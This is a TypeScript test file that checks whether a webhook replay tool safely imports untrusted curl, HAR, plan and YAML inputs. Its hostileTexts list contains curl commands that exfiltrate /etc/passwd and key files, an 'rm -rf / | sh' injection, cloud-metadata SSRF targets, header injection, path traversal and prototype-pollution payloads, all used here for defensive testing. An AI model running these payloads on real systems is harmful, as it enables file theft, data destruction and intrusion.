/** EXP-03, EXP-04, EXP-09 through the doors: what is read from elsewhere is data, is whole or not there at all, and sets nothing in motion. */
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { z } from 'zod';
import { targetOptionsShape } from '#contract/models/target.ts';
import type { Engine } from '#engine/engine-parts.ts';
import { Failure } from '#engine/failure.ts';
import { makeAwakeEngine } from '#test/support/awake-engine.ts';
import { type HandlerServer, startHandler } from '#test/support/handler-server.ts';
import { tempFolder } from '#test/support/temp-folder.ts';

const call = { signal: undefined };
const folder = tempFolder();
let engine: Engine;
let handler: HandlerServer;

beforeAll(async () => {
  handler = await startHandler();
  engine = await makeAwakeEngine(folder.path);
  const target = { ...z.object(targetOptionsShape).parse({}), name: 'Near', url: handler.url, signing: null, secret: null };
  await engine.handlers.targets.create(target, call);
  await engine.handlers.targets.create({ ...target, name: 'Live', isProduction: true }, call);
}, 120_000);

afterAll(async () => {
  await engine.close();
  await handler.close();
  folder[Symbol.dispose]();
});

/** All that an import must not change, as it can be seen from outside. */
async function state(): Promise<string> {
  const { endpoints, targets, settings, console, replays, attempts } = engine.handlers;
  const everyAttempt = { text: '', outcomes: [], statuses: [], deadlines: [], sources: [], targetUrl: '', limit: 10 };
  const seen = await Promise.all([
    endpoints.list({}, call),
    targets.list({}, call),
    settings.get({}, call),
    console.connections({}, call),
    replays.list({ limit: 10 }, call),
    attempts.list(everyAttempt, call),
  ]);
  return JSON.stringify(seen);
}

/** Files as somebody could send them: they name our target, a file, a command, a host that is forbidden, and much more than fits. */
function hostileTexts(): readonly string[] {
  const to = handler.url;
  const entry = {
    request: { method: 'POST', url: to, headers: [{ name: 'Authorization', value: 'Bearer x' }], postData: { text: '{"id":1}' } },
  };
  const har = (change: object = {}) => JSON.stringify({ log: { version: '1.2', entries: [{ ...entry, ...change }] } });
  return [
    `curl ${to} -d @/etc/passwd`,
    `curl ${to} --data-binary @${folder.path}/vault.key`,
    `curl ${to} -T /etc/passwd -o /tmp/evil -K ~/.curlrc --next http://169.254.169.254/`,
    `curl ${to} -d "$(id)" -H "X: \`id\`" ; rm -rf / | sh && echo $HOME`,
    `curl '${to}' -H 'X: a\r\nX-Evil: 1' --proxy http://evil.test --cacert /etc/x -k`,
    `curl ${to} ${"-H 'A: b' ".repeat(5_000)}`,
    `curl ${"'".repeat(10_000)}`,
    `POST /in/orders HTTP/1.1\r\nHost: 169.254.169.254\r\nContent-Length: 99999999999\r\n\r\n{}`,
    `GET ${to} HTTP/1.1\r\n${'X: 1\r\n'.repeat(5_000)}\r\n`,
    har(),
    har({ request: { ...entry.request, url: 'file:///etc/passwd' } }),
    har({ request: { ...entry.request, postData: { text: 'QUJD', encoding: 'base64', fileName: '../../../etc/passwd' } } }),
    har({ request: { ...entry.request, headers: { __proto__: 1, length: 1e9 } } }),
    har({ request: { ...entry.request, method: 'POST\r\nX: 1' } }),
    `{"log":{"entries":${'['.repeat(50_000)}${']'.repeat(50_000)}}}`,
    `{"log":{"entries":[${'{"request":{}},'.repeat(5_000)}{}]}}`,
    '{"__proto__":{"isAdmin":true},"constructor":{"prototype":{"x":1}},"log":{"entries":[]}}',
    `{"format":"hookglass.plan","version":1,"name":"../../x","target":{"url":"${to}"},"options":{"kind":"exact","start":true},"deliveries":[["dlv_1","e","${'0'.repeat(64)}"]],"secrets":["x"]}`,
    `{"format":"hookglass.plan","version":1,"name":"x","target":{"url":"http://169.254.169.254/"},"options":{"kind":"exact"},"deliveries":[["dlv_1","e","${'0'.repeat(64)}"]]}`,
    `{"format":"hookglass.plan","version":1,"name":"x","target":{"url":"${to}","headers":[["A","b"]],"isProduction":false,"secret":"s"},"options":{"kind":"fresh"},"deliveries":[["dlv_1","e","${'0'.repeat(64)}"]]}`,
    'name: x\nsteps:\n  - send: {to: "http://169.254.169.254/"}\n  - &a [*a, *a]\n  - !!js/function "function(){}"',
    'a: &a [x,x]\nb: &b [*a,*a]\nc: &c [*b,*b]\nd: &d [*c,*c]\ne: &e [*d,*d]\nf: [*e,*e]\n',
    '\u0000\u0001\ufeff\u202e',
    '',
  ];
}

/** Every way in which a text from elsewhere comes in. */
function doorsFor(text: string): Readonly<Record<string, () => Promise<unknown>>> {
  const { drafts, plans, scenarios } = engine.handlers;
  return {
    'a draft': () => drafts.create({ from: { kind: 'text', text: { text }, fileName: '../../evil.har' } }, call),
    'a plan': () => plans.import({ text: { text }, fileName: '../../evil.json' }, call),
    'a scenario': () => scenarios.check({ text }, call),
  };
}

/** How it ended; anything but a Failure about the input is a mistake of ours. */
async function take(text: string): Promise<readonly string[]> {
  const ends: string[] = [];
  for (const [door, takeIn] of Object.entries(doorsFor(text))) {
    try {
      await takeIn();
      ends.push(`${door}: taken`);
    } catch (error) {
      if (!(error instanceof Failure)) throw error;
      ends.push(`${door}: ${error.code}`);
    }
  }
  return ends;
}

const honest = /: (?:taken|input\.[a-z_]+|replay\.target_refused)$/;

describe('EXP-03, EXP-04, EXP-09 what is read from elsewhere', () => {
  test('is taken or refused with a reason, changes no target, secret or setting, and sends nothing', async () => {
    const before = await state();
    const ends = [];
    for (const text of hostileTexts()) ends.push(...(await take(text)));
    expect(ends.filter((end) => !honest.test(end))).toEqual([]);
    expect(ends.some((end) => end.endsWith('taken'))).toBe(true);
    expect(await state()).toBe(before);
    expect(handler.connections()).toBe(0);
    expect(Object.prototype).not.toHaveProperty('isAdmin');
  }, 120_000);

  test('may be spoilt in 200 ways', async () => {
    const before = await state();
    const texts = hostileTexts();
    const cut = fc.record({ at: fc.nat(), drop: fc.nat(20), put: fc.string({ unit: 'binary', maxLength: 8 }) });
    const spoilt = fc
      .tuple(fc.constantFrom(...texts.filter((text) => text.length < 2_000)), fc.array(cut, { maxLength: 5 }))
      .map(([text, cuts]) =>
        cuts.reduce((whole, { at, drop, put }) => {
          const from = at % (whole.length + 1);
          return `${whole.slice(0, from)}${put}${whole.slice(from + drop)}`;
        }, text),
      );
    await fc.assert(
      fc.asyncProperty(spoilt, async (text) => {
        expect((await take(text)).filter((end) => !honest.test(end))).toEqual([]);
      }),
      { numRuns: 200 },
    );
    expect(await state()).toBe(before);
    expect(handler.connections()).toBe(0);
  }, 120_000);
});

test('EXP-03 a plan file is read whole or not at all', async () => {
  const { plans } = engine.handlers;
  const count = async () => (await plans.list({ limit: 200 }, call)).items.length;
  const before = await count();
  const row = (at: number) => JSON.stringify([`dlv_${at + 1}`, 'e', '0'.repeat(64)]);
  const head = `{"format":"hookglass.plan","version":1,"name":"x","target":{"url":"${handler.url}"},"options":{"kind":"exact"},"deliveries":[`;
  const rows = Array.from({ length: 900 }, (_, at) => row(at)).join(',');
  for (const end of ['', '}', `,["dlv_1","e","short"]]}`, ',null]}', `]}trailing`]) {
    await expect(plans.import({ text: { text: `${head}${rows}${end}` } }, call)).rejects.toMatchObject({ code: 'input.plan_file' });
  }
  expect(await count()).toBe(before);
});
